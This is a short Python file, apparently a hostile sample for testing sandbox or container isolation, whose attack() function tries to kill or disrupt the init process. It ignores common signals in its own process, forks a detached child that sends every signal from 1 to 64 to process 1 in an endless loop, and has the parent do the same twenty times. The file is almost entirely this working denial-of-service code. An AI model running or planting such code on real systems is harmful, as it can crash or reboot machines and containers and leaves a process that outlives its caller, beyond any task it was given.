"""Sends process 1 every signal there is, over and over, also from a child that outlives the call."""

import os
import signal
from contextlib import suppress


def send_all():
    for number in range(1, 65):
        with suppress(OSError):
            os.kill(1, number)


def attack():
    for number in (signal.SIGHUP, signal.SIGINT, signal.SIGTERM, signal.SIGUSR1, signal.SIGUSR2):
        signal.signal(number, signal.SIG_IGN)  # init passes them on
    if os.fork() == 0:
        os.setsid()
        while True:
            send_all()
    for _ in range(20):
        send_all()
    return []
